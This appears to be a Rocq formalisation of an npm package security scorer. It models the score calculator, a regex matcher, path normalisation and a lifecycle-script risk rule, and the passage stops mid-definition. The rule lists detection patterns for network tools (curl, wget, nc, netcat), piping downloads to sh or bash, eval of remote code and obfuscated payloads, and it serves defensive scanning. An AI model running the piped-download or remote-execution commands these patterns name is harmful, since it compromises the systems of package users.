(** * npm-security-score: a shallow embedding of the risk-scoring pipeline

    The development follows the JavaScript sources:
    - [ScoreCalculator]            (core/ScoreCalculator.js)
    - [ScoreCalculatorRejections]  (core/ScoreCalculator.js)
    - [LifecycleScriptRiskRule]    (rules/LifecycleScriptRiskRule.js)
    - [UpdateBehaviorRule]         (rules/UpdateBehaviorRule.js)
    - [TarballAnalyzer]            (utils/tarballAnalyzer.js)
    - [TarballContents]            (utils/tarballAnalyzer.js)
    - [OutputFormatter]            (cli/outputFormatter.js)
    - [ScoreComparisons]           (cli/outputFormatter.js)
    - [ScoringService]             (cli/scoringService.js)

    Conventions of the embedding.
    - A JavaScript string is a Rocq [string]; each [ascii] stands for one
      code unit in the range 0..255.
    - A JavaScript number is an exact rational ([Q]) or, where the code only
      counts, a [nat] or [Z].  IEEE rounding, NaN and the infinities are not
      represented, with two exceptions: [parseInt] rounds to the nearest
      double ([UpdateBehaviorRule.toDouble]), and the comparisons of the
      formatter are also given on NaN and the infinities
      ([ScoreComparisons]).
    - A thrown exception is an [Error] object, kept as its message.  Where
      a catch block reads the message of what it caught, [Thrown] tells an
      Error object from [undefined] and [null]
      ([ScoreCalculatorRejections], [ScoringService]).
    - An awaited call settles or stays pending ([TarballAnalyzer.settlement])
      where the code builds its promise by hand.
    - Objects used as maps are association lists in own-property order
      (the order of [Object.keys] and [Object.entries]).
    - core/BaseRule.js, core/RuleRegistry.js, core/scoreBands.js and
      utils/packageAnalyzer.js are not among the sources: what the code uses
      of them is a parameter or is modelled from the specification, and says
      so where it is defined. *)

From Stdlib Require Import ZArith QArith Qround Lqa Bool List Ascii String Lia.
From stdpp Require Import base decidable option list strings gmap.

Local Open Scope string_scope.
Local Open Scope list_scope.

(** ** JavaScript strings *)

Module JS.

(** Result of a call that may throw. *)
Inductive outcome (A : Type) : Type :=
| Return (a : A)
| Throw (message : string).
Arguments Return {A} a.
Arguments Throw {A} message.

(** What a promise can reject with, as far as a catch block that reads
    [error.message] tells the values apart: an Error object, of which the
    read gives the message; or [undefined] or [null], of which no property
    can be read, so that the read itself raises a TypeError.  Rejections with
    a value that is neither (a string, a number, an object without a string
    message) are not modelled. *)
Inductive Thrown : Type :=
| ErrorObject (message : string)
| Nullish.

Definition bind {A B} (m : outcome A) (f : A -> outcome B) : outcome B :=
  match m with
  | Return a => f a
  | Throw e => Throw e
  end.

Definition chars (s : string) : list ascii := list_ascii_of_string s.
Definition str (l : list ascii) : string := string_of_list_ascii l.

Definition code (c : ascii) : nat := nat_of_ascii c.

Definition between (lo hi : nat) (c : ascii) : bool :=
  (lo <=? code c)%nat && (code c <=? hi)%nat.

Definition isDigit (c : ascii) : bool := between 48 57 c.
Definition isUpper (c : ascii) : bool := between 65 90 c.
Definition isLower (c : ascii) : bool := between 97 122 c.

(** [\w]: the basic word characters. *)
Definition isWordChar (c : ascii) : bool :=
  isDigit c || isUpper c || isLower c || (code c =? 95)%nat.

(** [\s] on code units below 256: TAB, LF, VT, FF, CR, SP, NBSP. *)
Definition isSpace (c : ascii) : bool :=
  between 9 13 c || (code c =? 32)%nat || (code c =? 160)%nat.

(** Line terminators below 256; [.] matches everything else. *)
Definition isLineTerminator (c : ascii) : bool :=
  (code c =? 10)%nat || (code c =? 13)%nat.

Definition toLower (c : ascii) : ascii :=
  if isUpper c then ascii_of_nat (code c + 32) else c.
Definition toUpper (c : ascii) : ascii :=
  if isLower c then ascii_of_nat (code c - 32) else c.

(** Truthiness of a string: the empty string is falsy. *)
Definition truthy (s : string) : bool :=
  match s with EmptyString => false | _ => true end.

(** [a || b] on possibly absent strings. *)
Definition orElse (a : option string) (b : option string) : option string :=
  match a with
  | Some s => if truthy s then Some s else b
  | None => b
  end.

(** [s.startsWith(p)] *)
Definition startsWith (s p : string) : bool := String.prefix p s.

(** [s.replace(c, r)] for a one-character search string: only the first
    occurrence is replaced. *)
Fixpoint replaceFirst (c : ascii) (r : string) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String x t =>
      if Ascii.eqb x c then r +:+ t else String x (replaceFirst c r t)
  end.

(** The default order of [Array.prototype.sort]: code units, left to right,
    a proper prefix first. *)
Fixpoint codeUnitLt (a b : list ascii) : bool :=
  match a, b with
  | [], [] => false
  | [], _ :: _ => true
  | _ :: _, [] => false
  | x :: a', y :: b' =>
      if (code x <? code y)%nat then true
      else if (code y <? code x)%nat then false
      else codeUnitLt a' b'
  end.

(** [Array.prototype.sort(cmp)]: the sort is stable; [cmp a b > 0] puts
    [a] after [b].  Written as an insertion sort from the right, which gives
    the stable order for every consistent comparator. *)
Section Sort.
Context {A : Type} (cmp : A -> A -> Z).

Fixpoint insertSorted (x : A) (l : list A) : list A :=
  match l with
  | [] => [x]
  | y :: t => if (0 <? cmp x y)%Z then y :: insertSorted x t else x :: l
  end.

Definition sortBy (l : list A) : list A :=
  fold_right insertSorted [] l.
End Sort.

(** [sort()] without a comparator (or with [undefined]) on strings. *)
Definition defaultCompare (a b : string) : Z :=
  if codeUnitLt (chars a) (chars b) then (-1)%Z
  else if codeUnitLt (chars b) (chars a) then 1%Z
  else 0%Z.

Definition sortDefault (l : list string) : list string :=
  sortBy defaultCompare l.

(** [arr.slice(start, end)] with integer arguments; [None] is an omitted
    [end]. *)
Definition relIndex (len i : Z) : Z :=
  if (i <? 0)%Z then Z.max (len + i) 0 else Z.min i len.

Definition slice {A} (l : list A) (start : Z) (stop : option Z) : list A :=
  let len := Z.of_nat (length l) in
  let k := relIndex len start in
  let final := match stop with None => len | Some e => relIndex len e end in
  take (Z.to_nat (final - k)) (drop (Z.to_nat k) l).

(** [arr.indexOf(x)] on strings, [-1] when absent. *)
Fixpoint indexOfFrom (x : string) (l : list string) (i : Z) : Z :=
  match l with
  | [] => (-1)%Z
  | y :: t => if String.eqb x y then i else indexOfFrom x t (i + 1)%Z
  end.
Definition indexOf (l : list string) (x : string) : Z := indexOfFrom x l 0%Z.

(** [obj[key]] on an association list. *)
Fixpoint getProp {V} (o : list (string * V)) (k : string) : option V :=
  match o with
  | [] => None
  | (k', v) :: t => if String.eqb k k' then Some v else getProp t k
  end.

Definition keys {V} (o : list (string * V)) : list string := map fst o.

Definition includes (l : list string) (x : string) : bool :=
  existsb (String.eqb x) l.

End JS.

(** ** Regular expressions

    The fragment of the JavaScript pattern language the rules use.  The
    matcher is a backtracking matcher in continuation-passing style with the
    priorities of the language (left alternative first, greedy repetition);
    [prev] is the code unit before the current position, needed by [\b]. *)

Module Regex.
Import JS.

Inductive re : Type :=
| Empty
| Lit (c : ascii)
| Class (p : ascii -> bool)
| WordBoundary
| Seq (r1 r2 : re)
| Alt (r1 r2 : re)
| Star (r : re).

(** Derived forms. *)
Definition plus (r : re) : re := Seq r (Star r).
Definition opt (r : re) : re := Alt r Empty.
Fixpoint lit (s : string) : re :=
  match s with
  | EmptyString => Empty
  | String c EmptyString => Lit c
  | String c t => Seq (Lit c) (lit t)
  end.
Fixpoint seq (rs : list re) : re :=
  match rs with
  | [] => Empty
  | [r] => r
  | r :: t => Seq r (seq t)
  end.
(** [r{n}], [r{n,}] and [r{0,n}]. *)
Fixpoint times (n : nat) (r : re) : re :=
  match n with
  | O => Empty
  | S O => r
  | S m => Seq r (times m r)
  end.
Definition atLeast (n : nat) (r : re) : re := Seq (times n r) (Star r).
Fixpoint upTo (n : nat) (r : re) : re :=
  match n with
  | O => Empty
  | S m => opt (Seq r (upTo m r))
  end.

(** Character classes. *)
Definition ws : re := Class isSpace.                       (* \s *)
Definition notws : re := Class (fun c => negb (isSpace c)). (* [^\s] *)
Definition dot : re := Class (fun c => negb (isLineTerminator c)).
(** A single or a double quote (code units 39 and 34). *)
Definition quote : re :=
  Class (fun c => (code c =? 39)%nat || (code c =? 34)%nat).

Section Matcher.
(** The [i] flag. *)
Variable ignoreCase : bool.

Definition litMatches (c x : ascii) : bool :=
  if ignoreCase then Ascii.eqb (toUpper c) (toUpper x) else Ascii.eqb c x.

Definition classMatches (p : ascii -> bool) (x : ascii) : bool :=
  p x || (ignoreCase && (p (toLower x) || p (toUpper x))).

Definition atWordBoundary (prev : option ascii) (s : list ascii) : bool :=
  let a := match prev with Some c => isWordChar c | None => false end in
  let b := match s with c :: _ => isWordChar c | [] => false end in
  xorb a b.

Definition cont := option ascii -> list ascii -> option (list ascii).

(** [run r prev s k]: match [r] at the head of [s], then continue with
    [k]; the answer is what is left of the input after the whole match. *)
Fixpoint run (r : re) (prev : option ascii) (s : list ascii) (k : cont)
  : option (list ascii) :=
  match r with
  | Empty => k prev s
  | Lit c =>
      match s with
      | x :: t => if litMatches c x then k (Some x) t else None
      | [] => None
      end
  | Class p =>
      match s with
      | x :: t => if classMatches p x then k (Some x) t else None
      | [] => None
      end
  | WordBoundary => if atWordBoundary prev s then k prev s else None
  | Seq a b => run a prev s (fun p' s' => run b p' s' k)
  | Alt a b =>
      match run a prev s k with
      | Some out => Some out
      | None => run b prev s k
      end
  | Star a =>
      (fix loop (fuel : nat) (prev : option ascii) (s : list ascii)
         : option (list ascii) :=
         let again :=
           match fuel with
           | O => None
           | S fuel' =>
               run a prev s
                 (fun p' s' =>
                    if (length s' <? length s)%nat
                    then loop fuel' p' s' else None)
           end in
         match again with
         | Some out => Some out
         | None => k prev s
         end) (length s) prev s
  end.

(** A match starting exactly at the current position. *)
Definition matchHere (r : re) (prev : option ascii) (s : list ascii)
  : option (list ascii) :=
  run r prev s (fun _ rest => Some rest).

(** The leftmost match: the input from its first code unit on, and what
    follows the match. *)
Fixpoint execFrom (r : re) (prev : option ascii) (s : list ascii)
  : option (list ascii * list ascii) :=
  match matchHere r prev s with
  | Some rest => Some (s, rest)
  | None =>
      match s with
      | [] => None
      | c :: t => execFrom r (Some c) t
      end
  end.

(** [pattern.test(s)] for a pattern without the [g] flag. *)
Definition test (r : re) (s : string) : bool :=
  match execFrom r None (chars s) with Some _ => true | None => false end.

Definition lastOf (prev : option ascii) (consumed : list ascii) : option ascii :=
  match last consumed with Some c => Some c | None => prev end.

(** Number of matches [s.match(pattern)] collects for a pattern with the
    [g] flag: successive leftmost matches, an empty match advancing the
    position by one. *)
Fixpoint countFrom (fuel : nat) (r : re) (prev : option ascii) (s : list ascii)
  : nat :=
  match fuel with
  | O => O
  | S fuel' =>
      match execFrom r prev s with
      | None => O
      | Some (from, rest) =>
          if (length rest <? length from)%nat then
            let consumed := take (length s - length rest) s in
            S (countFrom fuel' r (lastOf prev consumed) rest)
          else
            match from with
            | [] => 1%nat
            | c :: t => S (countFrom fuel' r (Some c) t)
            end
      end
  end.

Definition matchCount (r : re) (s : string) : nat :=
  countFrom (S (String.length s)) r None (chars s).
End Matcher.

(** A pattern literal: its expression and its [i] and [g] flags. *)
Record Pattern : Type := {
  regex : re;
  ignoreCase : bool;
  global : bool;
}.

Definition insensitive (r : re) : Pattern :=
  {| regex := r; ignoreCase := true; global := false |}.
Definition globalPattern (r : re) : Pattern :=
  {| regex := r; ignoreCase := false; global := true |}.

(** [pattern.test(script)] *)
Definition patternTest (p : Pattern) (script : string) : bool :=
  test (ignoreCase p) (regex p) script.

(** [script.match(pattern)]: [None] for [null], otherwise the length of
    the array (all matches with the [g] flag, the single match without). *)
Definition patternMatch (p : Pattern) (script : string) : option nat :=
  if global p then
    match matchCount (ignoreCase p) (regex p) script with
    | O => None
    | n => Some n
    end
  else if test (ignoreCase p) (regex p) script then Some 1%nat
  else None.

(** [\bTOOL\s+[^\s]+] *)
Definition toolWithArgument (tool : string) : Pattern :=
  insensitive (seq [WordBoundary; lit tool; plus ws; plus notws]).

(** [\brequire\s*\(\s*QUOTE module QUOTE\s*\)] *)
Definition requireOf (module : re) : Pattern :=
  insensitive
    (seq [WordBoundary; lit "require"; Star ws; lit "("; Star ws;
          quote; module; quote; Star ws; lit ")"]).

(** [\bNAME\s*\(] *)
Definition callOf (fn : string) : Pattern :=
  insensitive (seq [WordBoundary; lit fn; Star ws; lit "("]).

(** [\bTOOL\s+.*WORD] *)
Definition toolThen (tool word : string) : Pattern :=
  insensitive (seq [WordBoundary; lit tool; plus ws; Star dot; lit word]).

(** [\bTOOL\s+.*\|\s*SHELL] *)
Definition toolPipedTo (tool shell : string) : Pattern :=
  insensitive
    (seq [WordBoundary; lit tool; plus ws; Star dot; lit "|"; Star ws; lit shell]).

End Regex.

(** ** Node's [path] module (POSIX flavour)

    [path.join] and [path.normalize] as the runtime implements them: the
    arguments are joined with a slash and the result is normalised segment by
    segment, resolving [.] and [..] textually. *)

Module Path.
Import JS.

Definition slash : ascii := ascii_of_nat 47.

(** The segments between slashes; an empty segment for each doubled,
    leading or trailing slash. *)
Fixpoint splitAcc (cur : list ascii) (s : list ascii) : list string :=
  match s with
  | [] => [str (rev cur)]
  | c :: t =>
      if Ascii.eqb c slash then str (rev cur) :: splitAcc [] t
      else splitAcc (c :: cur) t
  end.
Definition split (p : string) : list string := splitAcc [] (chars p).

(** [normalizeString]: the stack of kept segments, innermost first. *)
Definition pushSegment (allowAboveRoot : bool) (stack : list string) (seg : string)
  : list string :=
  if String.eqb seg EmptyString || String.eqb seg "." then stack
  else if String.eqb seg ".." then
    match stack with
    | top :: below =>
        if String.eqb top ".." then
          (if allowAboveRoot then seg :: stack else stack)
        else below
    | [] => if allowAboveRoot then [seg] else []
    end
  else seg :: stack.

Definition normalizeSegments (allowAboveRoot : bool) (segs : list string)
  : list string :=
  rev (fold_left (pushSegment allowAboveRoot) segs []).

Fixpoint joinWith (sep : string) (l : list string) : string :=
  match l with
  | [] => EmptyString
  | [x] => x
  | x :: t => x +:+ sep +:+ joinWith sep t
  end.

Definition isAbsolute (p : string) : bool :=
  match p with
  | String c _ => Ascii.eqb c slash
  | EmptyString => false
  end.

Definition hasTrailingSlash (p : string) : bool :=
  match last (chars p) with
  | Some c => Ascii.eqb c slash
  | None => false
  end.

(** [path.normalize(p)] *)
Definition normalize (p : string) : string :=
  match p with
  | EmptyString => "."
  | _ =>
      let abs := isAbsolute p in
      let trailing := hasTrailingSlash p in
      let body := joinWith "/" (normalizeSegments (negb abs) (split p)) in
      match body with
      | EmptyString =>
          if abs then "/" else if trailing then "./" else "."
      | _ =>
          let body' := if trailing then body +:+ "/" else body in
          if abs then "/" +:+ body' else body'
      end
  end.

(** [path.join(...args)]: empty arguments are dropped. *)
Definition join (args : list string) : string :=
  match filter (fun a => truthy a = true) args with
  | [] => "."
  | parts => normalize (joinWith "/" parts)
  end.

(** Containment proper: [p] is [root] itself or lies below it, the root
    being followed by a separator. *)
Definition isWithin (root p : string) : bool :=
  String.eqb p root || String.prefix (root +:+ "/") p.

End Path.

(** ** Data model *)

Module Model.

Inductive RiskLevel : Type := RiskNone | RiskLow | RiskMedium | RiskHigh | RiskError.

(** An object whose keys are strings and whose values are strings:
    lifecycle scripts and the dependency maps. *)
Definition StringMap : Type := list (string * string).

(** PackageSnapshot: the registry's metadata of one package version.
    Absent properties are [None]. *)
Record PackageData : Type := {
  name : option string;
  version : option string;
  scripts : option StringMap;
  unpackedSize : option Q;          (* dist?.unpackedSize *)
  dependencies : option StringMap;
  devDependencies : option StringMap;
  peerDependencies : option StringMap;
  optionalDependencies : option StringMap;
}.

(** Modelled from the spec: core/BaseRule.js is not among the sources.  A
    rule is a named, weighted unit with an [enabled] flag; [isEnabled()]
    reads the flag. *)
Record BaseRule : Type := {
  ruleName : string;
  weight : Q;
  enabled : bool;
}.
Definition isEnabled (r : BaseRule) : bool := enabled r.

(** [Math.floor] and [Math.round] ([Math.round] rounds halves up). *)
Definition mathFloor (x : Q) : Q := inject_Z (Qfloor x).
Definition mathRound (x : Q) : Q := inject_Z (Qfloor (x + (1 # 2))).

End Model.

(** ** Score bands and the rule registry *)

Module ScoreBands.
Local Open Scope Q_scope.

Inductive Band : Type := Safe | Review | HighRisk | Block.

(** Modelled from the spec: core/scoreBands.js is not among the sources.
    The score is mapped to a band by fixed thresholds: at least 90 is Safe,
    from 70 up to 90 is Review, from 50 up to 70 is High Risk, below 50 is
    Block. *)
Definition getScoreBand (score : Q) : Band :=
  if Qle_bool 90 score then Safe
  else if Qle_bool 70 score then Review
  else if Qle_bool 50 score then HighRisk
  else Block.

End ScoreBands.

Module ScoreCalculator.
Import JS Model ScoreBands.
Local Open Scope Q_scope.

Section Calculator.
(** The type of a rule's [details] payload. *)
Variable D : Type.

(** What a rule's [evaluate] resolves to: every property may be absent. *)
Record RuleResult : Type := {
  deduction : option Q;
  bonus : option Q;
  details : option D;
  riskLevel : option RiskLevel;
}.

(** A registered rule, duck-typed: a name, the [enabled] flag, and
    [evaluate], which returns a result or throws. *)
Record Rule : Type := {
  name : string;
  enabled : bool;
  evaluate : PackageData -> outcome RuleResult;
}.

(** Modelled from the spec: core/RuleRegistry.js is not among the sources.
    [register] adds a rule keyed by its name, replacing a prior rule of the
    same name; [getActiveRules] returns the rules whose [enabled] flag is
    true, in registration order. *)
Definition RuleRegistry : Type := list Rule.

Fixpoint register (rule : Rule) (reg : RuleRegistry) : RuleRegistry :=
  match reg with
  | [] => [rule]
  | r :: t =>
      if String.eqb (name r) (name rule) then rule :: t
      else r :: register rule t
  end.

Definition getActiveRules (reg : RuleRegistry) : list Rule :=
  filter (fun r => enabled r = true) reg.

Record Config : Type := {
  baseScore : Q;
  minScore : Q;
  maxScore : Q;
}.

Definition defaultConfig : Config :=
  {| baseScore := 100; minScore := 0; maxScore := 100 |}.

Record Calculator : Type := {
  config : Config;
  ruleRegistry : RuleRegistry;
}.

Definition registerRule (rule : Rule) (c : Calculator) : Calculator :=
  {| config := config c; ruleRegistry := register rule (ruleRegistry c) |}.

(** The [details] of an entry of [ruleResults]. *)
Inductive EntryDetails : Type :=
| Given (d : D)
| EmptyObject
| ErrorMessage (message : string).

Record RuleEntry : Type := {
  entryRuleName : string;
  entryDeduction : Q;
  entryBonus : Q;
  entryDetails : EntryDetails;
  entryRiskLevel : RiskLevel;
}.

(** The timestamp of the result is left out. *)
Record ScoreResult : Type := {
  score : Q;
  band : Band;
  ruleResults : list RuleEntry;
  packageName : option string;
  packageVersion : option string;
}.

(** [x || 0] *)
Definition orZero (x : option Q) : Q :=
  match x with Some q => q | None => 0 end.

Definition mathMax (a b : Q) : Q := if Qle_bool a b then b else a.
Definition mathMin (a b : Q) : Q := if Qle_bool a b then a else b.

(** One turn of the loop over the active rules. *)
Definition evaluateRule (packageData : PackageData)
    (st : Q * list RuleEntry) (rule : Rule) : Q * list RuleEntry :=
  let '(score, ruleResults) := st in
  match evaluate rule packageData with
  | Return result =>
      let score := score - orZero (deduction result) in
      let score := score + orZero (bonus result) in
      (score,
       ruleResults ++
         [{| entryRuleName := name rule;
             entryDeduction := orZero (deduction result);
             entryBonus := orZero (bonus result);
             entryDetails :=
               match details result with
               | Some d => Given d
               | None => EmptyObject
               end;
             entryRiskLevel :=
               match riskLevel result with
               | Some l => l
               | None => RiskNone
               end |}])
  | Throw message =>
      (score,
       ruleResults ++
         [{| entryRuleName := name rule;
             entryDeduction := 0;
             entryBonus := 0;
             entryDetails := ErrorMessage message;
             entryRiskLevel := RiskError |}])
  end.

Definition runRules (c : Calculator) (packageData : PackageData)
  : Q * list RuleEntry :=
  fold_left (evaluateRule packageData)
    (getActiveRules (ruleRegistry c)) (baseScore (config c), []).

(** The running score brought within the bounds. *)
Definition clamp (cfg : Config) (score : Q) : Q :=
  mathMax (minScore cfg) (mathMin (maxScore cfg) score).

(** [Math.round(score * 100) / 100] *)
Definition roundTwoDecimals (score : Q) : Q :=
  mathRound (score * 100) / 100.

(** [calculateScore(packageData)]; [None] is an absent argument. *)
Definition calculateScore (c : Calculator) (packageData : option PackageData)
  : outcome ScoreResult :=
  match packageData with
  | None => Throw "Package data is required"
  | Some packageData =>
      let '(score, ruleResults) := runRules c packageData in
      let score := clamp (config c) score in
      let band := getScoreBand score in
      Return {| score := roundTwoDecimals score;
                band := band;
                ruleResults := ruleResults;
                packageName := Model.name packageData;
                packageVersion := Model.version packageData |}
  end.

Definition getRules (c : Calculator) : list Rule :=
  getActiveRules (ruleRegistry c).
End Calculator.

Arguments deduction {D} _.
Arguments bonus {D} _.
Arguments details {D} _.
Arguments riskLevel {D} _.
Arguments name {D} _.
Arguments enabled {D} _.
Arguments evaluate {D} _ _.
Arguments config {D} _.
Arguments ruleRegistry {D} _.
Arguments getActiveRules {D} _.
Arguments register {D} _ _.
Arguments registerRule {D} _ _.
Arguments EmptyObject {D}.
Arguments ErrorMessage {D} _.
Arguments Given {D} _.
Arguments entryRuleName {D} _.
Arguments entryDeduction {D} _.
Arguments entryBonus {D} _.
Arguments entryDetails {D} _.
Arguments entryRiskLevel {D} _.
Arguments score {D} _.
Arguments band {D} _.
Arguments ruleResults {D} _.
Arguments packageName {D} _.
Arguments packageVersion {D} _.
Arguments evaluateRule {D} _ _ _.
Arguments runRules {D} _ _.
Arguments calculateScore {D} _ _.
Arguments getRules {D} _.

End ScoreCalculator.

(** ** Score calculator: what a rule can reject with *)

(** [calculateScore] once more, with the values a rule can reject with told
    apart.  The catch block of the loop reads [error.message] twice, for the
    warning and for the entry: of an Error object that is its message; of
    [undefined] or [null] the read raises a TypeError inside the catch block,
    which leaves the loop and the call. *)
Module ScoreCalculatorRejections.
Import JS Model ScoreBands ScoreCalculator.
Local Open Scope Q_scope.

Section Calculator.
Variable D : Type.

(** What awaiting [rule.evaluate(packageData)] gives.  [Rejected] stands for
    everything the try block throws, the TypeError of reading a property of a
    result that is no object included (an Error object). *)
Inductive Evaluation : Type :=
| Resolved (result : RuleResult D)
| Rejected (thrown : Thrown).

Record Rule : Type := {
  name : string;
  enabled : bool;
  evaluate : PackageData -> Evaluation;
}.

(** The registry is the list of the registered rules, in registration
    order. *)
Record Calculator : Type := {
  config : Config;
  ruleRegistry : list Rule;
}.

Definition getActiveRules (reg : list Rule) : list Rule :=
  filter (fun r => enabled r = true) reg.

(** The loop either runs on, or has been left by the TypeError raised in the
    catch block of the rule named. *)
Inductive Loop : Type :=
| Running (score : Q) (ruleResults : list (RuleEntry D))
| CatchThrew (ruleName : string).

(** One turn of the loop over the active rules. *)
Definition evaluateRule (packageData : PackageData) (st : Loop) (rule : Rule)
  : Loop :=
  match st with
  | CatchThrew ruleName => CatchThrew ruleName
  | Running score ruleResults =>
      match evaluate rule packageData with
      | Resolved result =>
          let score := score - orZero (ScoreCalculator.deduction result) in
          let score := score + orZero (ScoreCalculator.bonus result) in
          Running score
            (ruleResults ++
               [{| entryRuleName := name rule;
                   entryDeduction := orZero (ScoreCalculator.deduction result);
                   entryBonus := orZero (ScoreCalculator.bonus result);
                   entryDetails :=
                     match ScoreCalculator.details result with
                     | Some d => Given d
                     | None => EmptyObject
                     end;
                   entryRiskLevel :=
                     match ScoreCalculator.riskLevel result with
                     | Some l => l
                     | None => RiskNone
                     end |}])
      | Rejected (ErrorObject message) =>
          Running score
            (ruleResults ++
               [{| entryRuleName := name rule;
                   entryDeduction := 0;
                   entryBonus := 0;
                   entryDetails := ErrorMessage message;
                   entryRiskLevel := RiskError |}])
      | Rejected Nullish => CatchThrew (name rule)
      end
  end.

Definition runRules (c : Calculator) (packageData : PackageData) : Loop :=
  fold_left (evaluateRule packageData)
    (getActiveRules (ruleRegistry c)) (Running (baseScore (config c)) []).

(** What [calculateScore] throws. *)
Inductive Failure : Type :=
| PackageDataRequired
| MessageOfNullish (ruleName : string).

(** [calculateScore(packageData)]; [None] is an absent argument. *)
Definition calculateScore (c : Calculator) (packageData : option PackageData)
  : ScoreResult D + Failure :=
  match packageData with
  | None => inr PackageDataRequired
  | Some packageData =>
      match runRules c packageData with
      | Running score ruleResults =>
          let score := clamp (config c) score in
          let band := getScoreBand score in
          inl {| score := roundTwoDecimals score;
                 band := band;
                 ruleResults := ruleResults;
                 packageName := Model.name packageData;
                 packageVersion := Model.version packageData |}
      | CatchThrew ruleName => inr (MessageOfNullish ruleName)
      end
  end.

(** A rule that throws nothing but Error objects. *)
Definition throwingErrors (rule : ScoreCalculator.Rule D) : Rule :=
  {| name := ScoreCalculator.name rule;
     enabled := ScoreCalculator.enabled rule;
     evaluate := fun packageData =>
       match ScoreCalculator.evaluate rule packageData with
       | Return result => Resolved result
       | Throw message => Rejected (ErrorObject message)
       end |}.

Definition withErrorObjects (c : ScoreCalculator.Calculator D) : Calculator :=
  {| config := ScoreCalculator.config c;
     ruleRegistry := map throwingErrors (ScoreCalculator.ruleRegistry c) |}.
End Calculator.

Arguments Resolved {D} _.
Arguments Rejected {D} _.
Arguments name {D} _.
Arguments enabled {D} _.
Arguments evaluate {D} _ _.
Arguments config {D} _.
Arguments ruleRegistry {D} _.
Arguments getActiveRules {D} _.
Arguments Running {D} _ _.
Arguments CatchThrew {D} _.
Arguments evaluateRule {D} _ _ _.
Arguments runRules {D} _ _.
Arguments calculateScore {D} _ _.
Arguments throwingErrors {D} _.
Arguments withErrorObjects {D} _.

End ScoreCalculatorRejections.

(** ** Lifecycle-script risk rule *)

Module LifecycleScriptRiskRule.
Import JS Regex Model.
Local Open Scope Q_scope.

Definition suspiciousCommands : list Pattern :=
  [ (* Network tools *)
    toolWithArgument "curl";
    toolWithArgument "wget";
    toolWithArgument "http";
    toolWithArgument "ftp";
    toolWithArgument "nc";
    toolWithArgument "netcat";
    toolWithArgument "telnet";
    (* Node.js network modules *)
    requireOf (Seq (lit "http") (opt (lit "s")));
    requireOf (lit "http");
    requireOf (lit "https");
    requireOf (lit "request");
    requireOf (lit "axios");
    (* Direct network calls *)
    callOf "fetch";
    insensitive (seq [WordBoundary; lit "XMLHttpRequest"]);
    (* Download commands *)
    insensitive (seq [WordBoundary; lit "download"]);
    toolThen "wget" "http";
    toolThen "curl" "http";
    (* Remote execution *)
    callOf "eval";
    callOf "Function";
    callOf "exec";
    callOf "execSync";
    callOf "spawn";
    callOf "spawnSync" ].

Definition isBase64Char (c : ascii) : bool :=
  isUpper c || isLower c || isDigit c || (code c =? 43)%nat || (code c =? 47)%nat.
Definition isHexDigit (c : ascii) : bool :=
  isDigit c || between 97 102 c || between 65 70 c.

Definition obfuscationPatterns : list Pattern :=
  [ (* Base64 encoded strings *)
    globalPattern (Seq (atLeast 50 (Class isBase64Char)) (upTo 2 (lit "=")));
    (* Hex encoded strings *)
    globalPattern (seq [Lit (ascii_of_nat 92); lit "x"; times 2 (Class isHexDigit)]);
    (* Character code arrays *)
    insensitive (seq [lit "String"; lit "."; lit "fromCharCode"; Star ws; lit "("]);
    (* Multiple nested evals *)
    insensitive
      (seq [WordBoundary; lit "eval"; Star ws; lit "("; Star ws;
            lit "eval"; Star ws; lit "("]);
    (* Obfuscated variable names *)
    insensitive
      (seq [WordBoundary; Class isLower; lit "$";
            plus (Class (fun c => isLower c || isDigit c)); lit "$"]) ].

Definition highRiskPatterns : list Pattern :=
  [ toolPipedTo "curl" "sh";
    toolPipedTo "curl" "bash";
    toolPipedTo "wget" "sh";
    toolPipedTo "wget" "bash";
    insensitive (seq [WordBoundary; lit "http"; Star dot; lit "|"; Star ws; lit "sh"]);
    insensitive (seq [WordBoundary; lit "http"; Star dot; lit "|"; Star ws; lit "bash"]);
    insensitive
      (seq [WordBoundary; lit "eval"; Star ws; lit "("; Star ws; Star dot; lit "http"]);
    insensitive
      (seq [WordBoundary; lit "Function"; Star ws; lit "("; Star ws; Star dot;
            lit "http"]) ].

(** [&&|\|\||;] with the [g] flag. *)
Definition chainPattern : Pattern :=
  globalPattern (Alt (lit "&&") (Alt (lit "||") (lit ";"))).

(** An issue names its pattern by position in the list it comes from. *)
Inductive Issue : Type :=
| HighRiskPattern (index : nat)
| SuspiciousCommand (index : nat)
| Obfuscation (index : nat) (matches : nat)
| ExcessiveChaining (chainCount : nat).

Record ScriptAnalysis : Type := {
  risk : nat;
  riskLevel : RiskLevel;
  issues : list Issue;
  isHighRisk : bool;
}.

(** Index of the first pattern of the list that matches. *)
Fixpoint firstMatch (ps : list Pattern) (script : string) (i : nat) : option nat :=
  match ps with
  | [] => None
  | p :: t => if patternTest p script then Some i else firstMatch t script (S i)
  end.

(** Indices of all the patterns of the list that match. *)
Fixpoint allMatches (ps : list Pattern) (script : string) (i : nat) : list nat :=
  match ps with
  | [] => []
  | p :: t =>
      if patternTest p script then i :: allMatches t script (S i)
      else allMatches t script (S i)
  end.

Fixpoint allObfuscations (ps : list Pattern) (script : string) (i : nat)
  : list (nat * nat) :=
  match ps with
  | [] => []
  | p :: t =>
      match patternMatch p script with
      | Some n =>
          if (0 <? n)%nat then (i, n) :: allObfuscations t script (S i)
          else allObfuscations t script (S i)
      | None => allObfuscations t script (S i)
      end
  end.

(** [_analyzeScript(script, hook)] *)
Definition _analyzeScript (script : string) : ScriptAnalysis :=
  (* high-risk patterns: the first match is enough *)
  let high := firstMatch highRiskPatterns script 0 in
  let issues1 := match high with Some i => [HighRiskPattern i] | None => [] end in
  let risk1 := match high with Some _ => 3%nat | None => 0%nat end in
  let isHighRisk := match high with Some _ => true | None => false end in
  (* suspicious commands: one point for every pattern that matches *)
  let suspicious := allMatches suspiciousCommands script 0 in
  let issues2 := issues1 ++ map SuspiciousCommand suspicious in
  let risk2 := (risk1 + length suspicious)%nat in
  (* obfuscation: two points for every pattern with a match *)
  let obfuscated := allObfuscations obfuscationPatterns script 0 in
  let issues3 := issues2 ++ map (fun '(i, n) => Obfuscation i n) obfuscated in
  let risk3 := (risk2 + 2 * length obfuscated)%nat in
  (* command chaining *)
  let chains := patternMatch chainPattern script in
  let excessive :=
    match chains with Some n => (3 <=? n)%nat | None => false end in
  let issues4 :=
    match chains with
    | Some n => if excessive then issues3 ++ [ExcessiveChaining n] else issues3
    | None => issues3
    end in
  let risk4 := if excessive then (risk3 + 1)%nat else risk3 in
  let riskLevel :=
    if isHighRisk || (3 <=? risk4)%nat then RiskHigh
